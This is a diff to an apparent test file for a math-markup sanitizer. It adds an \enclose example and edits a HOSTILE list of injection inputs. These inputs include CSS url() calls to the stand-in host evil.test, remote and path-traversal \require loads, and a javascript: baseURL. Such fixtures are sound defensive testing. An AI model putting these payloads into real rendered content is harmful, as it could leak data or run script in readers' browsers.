@@ -50,6 +50,7 @@ EXAMPLES = {
     "\\color": r"\color{red} x \color[RGB]{1,20,255} y",
     "\\colorbox": r"\colorbox{#ffaa00}{$x$}",
     "\\cr": r"\matrix{x \cr y}",
+    "\\enclose": r"\enclose{circle longdiv}{x}",
     "\\end": r"\begin{matrix} x \end{matrix}",
     "\\framebox": r"\framebox[5em][l]{x}",
     "\\genfrac": r"\genfrac{[}{]}{1pt}{0}{x}{y}",
@@ -112,7 +113,7 @@ HOSTILE = [
     r"\(\fcolorbox{red;background:url(http://evil.test/x)}{blue}{x}\)",
     r"\(\unicode[x;background:url(http://evil.test/x)]{65}\)",
     r"\(\require{physics} \require{http://evil.test/x} \require{../../x}\)",
-    r"\(\enclose{circle}[mathcolor=red]{x} \toggle{x}{y}\endtoggle \texttip{x}{y}\)",
+    r"\(\enclose{circle}[mathbackground=url(http://evil.test/x)]{x} \toggle{x}{y}\endtoggle \texttip{x}{y}\)",
     r"\(\mathtoolsset{showonlyrefs} \newtagform{a}{(}{)} \setOptions{baseURL=javascript:hit()}\)",
     r"\(\label{a} \ref{a} \eqref{a} \refeq{a}\)",
     # Names for it.
